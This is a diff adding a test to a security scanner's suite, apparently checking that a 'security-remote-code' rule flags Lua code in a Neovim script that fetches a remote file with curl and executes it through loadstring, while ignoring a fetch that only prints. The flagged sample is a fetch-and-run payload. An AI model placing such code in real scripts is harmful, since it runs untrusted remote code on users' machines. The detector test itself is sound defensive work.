@@ -148,4 +148,16 @@ describe('security-remote-code', () => {
       '.mcp.json',
     );
   });
+
+  it('finds Lua that loads what a command fetched', () => {
+    checkAttacks(
+      'security-remote-code',
+      {
+        'local c = vim.fn.system("curl -s https://forms-host.net/a.lua")\nlocal ok, f = pcall(loadstring, c)\n':
+          'high',
+        'local c = vim.fn.system("curl -s https://forms-host.net/a.json")\nprint(c)\n': 'nothing',
+      },
+      'scripts/forms.lua',
+    );
+  });
 });
